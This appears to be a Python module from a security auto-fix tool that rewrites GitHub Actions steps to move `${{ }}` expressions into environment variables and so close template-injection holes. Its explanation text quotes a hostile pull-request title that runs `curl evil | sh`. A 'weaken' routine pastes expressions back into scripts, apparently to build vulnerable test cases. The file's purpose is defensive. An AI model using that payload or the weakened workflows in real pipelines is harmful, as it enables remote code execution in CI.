"""Expressions that are pasted into a script before the shell reads it."""

import re
from collections.abc import Iterator, Sequence

from secai_lib.core.finding import Finding
from secai_lib.core.fix import Edit, Proposal, SourceFiles
from secai_lib.fixes.compare import line_of, path_of, rule_of
from secai_lib.fixes.peers import Peers
from secai_lib.fixes.rule import Abstain, FixRule, Weakening
from secai_lib.fixes.shell_quoting import (
    EXPRESSION,
    Place,
    bash_places,
    powershell_places,
    reference,
)
from secai_lib.fixes.workflow import (
    BASH_LIKE,
    POWERSHELL,
    Step,
    Workflow,
    column_in,
    in_workflows,
    line_in,
    text_of,
    workflow_of,
)
from secai_lib.fixes.yaml_edit import insert_keys, remove_key
from secai_lib.fixes.yaml_tree import YamlNode

KIND = "workflow-template-injection"
EXPLANATION = """\
GitHub replaces `${{ ... }}` in a `run` script before the shell sees it, so a pull request title
such as `"; curl evil | sh; "` becomes part of the program. Through an environment variable the
same value stays data. All such expressions of the step are moved together. A value that used to
be split at its spaces into several arguments is one argument now.
"""
_ENV_ONLY = re.compile(r"env\.([A-Za-z_]\w*)")
_TAKEN = frozenset(["PATH", "HOME", "SHELL", "USER", "PWD", "CI", "ENV", "TMPDIR", "LANG", "IFS",
                    "TOKEN", "HOSTNAME", "TERM", "EDITOR", "UID"])  # fmt: skip


def propose(finding: Finding, peers: Peers, files: SourceFiles) -> tuple[Proposal, ...]:
    """Every flagged expression of the finding's step moved into the step's `env`."""
    workflow = workflow_of(finding, files)
    job, step = workflow.step_at(line_in(finding))
    run = step.node.get("run")
    if run is None or run.kind != "scalar" or run.alias or run.anchor:
        raise Abstain("needs_review", "The expression is an input of an action that runs it; pass "
                      "it through `env` and read it in the script by hand.")  # fmt: skip
    shell = workflow.shell(job, step)
    if shell not in (*BASH_LIKE, *POWERSHELL):
        raise Abstain("needs_review", f"The step's shell ({shell or 'unknown'}) is none whose "
                      "quoting we know.")  # fmt: skip
    spans = [m.span() for m in EXPRESSION.finditer(workflow.tree.text, run.start, run.end)]
    places = (bash_places if shell in BASH_LIKE else powershell_places)(run.text)
    if len(places) != len(spans):
        raise Abstain("needs_review", "An expression of the script spans several lines.")
    mine = _index(workflow, spans, finding)
    problem = places[mine]
    if isinstance(problem, Abstain):
        raise problem
    same = [peer for peer in peers.at(path_of(finding.result))
            if rule_of(peer.result) == rule_of(finding.result)]  # fmt: skip
    flagged = {_find(workflow, spans, peer) for peer in same} | {mine}
    # zizmor names the first place of an expression for all its places in the script.
    texts = [workflow.tree.text[start:end] for start, end in spans]
    wanted = {texts[i] for i in flagged if i is not None}
    chosen = [(spans[i], place) for i, place in enumerate(places)
              if texts[i] in wanted and isinstance(place, Place)]  # fmt: skip
    edits = _edits(workflow, step, run, shell, chosen)
    title = "Hand the script's values over through the environment"
    return (Proposal(kind=KIND, title=title, explanation=EXPLANATION, edits=edits),)


def _index(workflow: Workflow, spans: Sequence[tuple[int, int]], finding: Finding) -> int:
    found = _find(workflow, spans, finding)
    if found is None:
        raise Abstain("not_found", f"There is no expression at line {line_of(finding.result)}.")
    return found


def _find(workflow: Workflow, spans: Sequence[tuple[int, int]], finding: Finding) -> int | None:
    """Which expression the finding names: by line and column, by line alone when it is alone."""
    text, line, column = workflow.tree.text, line_of(finding.result), column_in(finding)
    here = [i for i, span in enumerate(spans) if workflow.tree.line_of(span[0]) == line]
    if len(here) < 2 or column < 0:
        return here[0] if here else None
    offset = text.rfind("\n", 0, spans[here[0]][0]) + 1 + column
    return next((i for i in here if spans[i][0] <= offset <= spans[i][1]), None)


def _edits(
    workflow: Workflow,
    step: Step,
    run: YamlNode,
    shell: str,
    chosen: Sequence[tuple[tuple[int, int], Place]],
) -> tuple[Edit, ...]:
    tree, names, new = workflow.tree, _names(step), {}
    edits = []
    for (start, end), place in chosen:
        inner = tree.text[start + 3 : end - 2].strip()
        value = f"${{{{ {inner} }}}}"
        own = _ENV_ONLY.fullmatch(inner)
        name = own[1] if own else names.get(value) or _new_name(inner, names, run.text)
        if not own and value not in names:
            names[value] = name
            new[name] = value
        written = reference(name, place, shell)
        if not run.style and start == run.start and written[0] in "\"'":
            raise Abstain("needs_review", "The whole script is an expression.")
        written = written.replace('"', '\\"') if run.style == '"' else written
        edits.append(Edit(path=tree.path, start=start, end=end, replacement=written))
    if new:
        path = (*step.path, "env") if step.node.get("env") else step.path
        entries = new if path != step.path else {"env": new}
        edits.append(insert_keys(tree, path, entries, before="" if path != step.path else "run"))
    return tuple(sorted(edits, key=lambda edit: edit.start))


def _names(step: Step) -> dict[str, str]:
    """Value -> name of the variables that the step has already, and the names themselves."""
    env = step.node.get("env")
    if env is None:
        return {}
    return {text_of(value) or f"={key.text}": key.text for key, value in env.entries}


def _new_name(inner: str, names: dict[str, str], script: str) -> str:
    """A name after what the expression reads, unlike any the step or its script uses."""
    words = re.findall(r"[A-Za-z_][\w-]*", re.sub(r"'[^']*'", "", inner))
    words = [word for word in words if word not in ("github", "event", "true", "false")]
    base = re.sub(r"\W+", "_", "_".join(words[:5])).strip("_").upper()[:64] or "VALUE"
    base = f"INPUT_{base}" if base in _TAKEN or base.startswith(("GITHUB_", "RUNNER_")) else base
    used, number, name = set(names.values()), 1, base
    while name in used or re.search(rf"\b{re.escape(name)}\b", script):
        number += 1
        name = f"{base}_{number}"
    return name


def _weaken(workflow: Workflow) -> Iterator[Weakening]:
    """Each variable of a script's own `env` written into the script as its expression."""
    for name, _ in workflow.jobs():
        for step in workflow.steps(name):
            run, env = step.node.get("run"), step.node.get("env")
            if run is None or env is None or workflow.shell(name, step) not in BASH_LIKE:
                continue
            for key, value in env.entries:
                if EXPRESSION.fullmatch(value.text) and not run.alias and not value.alias:
                    edits = _pasted(workflow, step, run, key.text, value.text)
                    if edits:
                        yield Weakening("zizmor", "template-injection", edits)


def _pasted(
    workflow: Workflow, step: Step, run: YamlNode, name: str, expression: str
) -> tuple[Edit, ...]:
    tree = workflow.tree
    used = re.compile(rf"\$\{{{name}\}}|\${name}\b")
    uses = list(used.finditer(tree.text, run.start, run.end))
    if not uses:
        return ()
    env = step.node.get("env")
    alone = env is not None and len(env.entries) == 1
    path = (*step.path, "env") if alone else (*step.path, "env", name)
    edits = [
        Edit(path=tree.path, start=use.start(), end=use.end(), replacement=expression)
        for use in uses
    ]
    return (*edits, remove_key(tree, path))


RULE = FixRule(
    kind=KIND,
    title="Keep expressions out of scripts",
    explanation=EXPLANATION,
    handles={"zizmor": ("template-injection",)},
    propose=propose,
    weaken=in_workflows(_weaken),
)
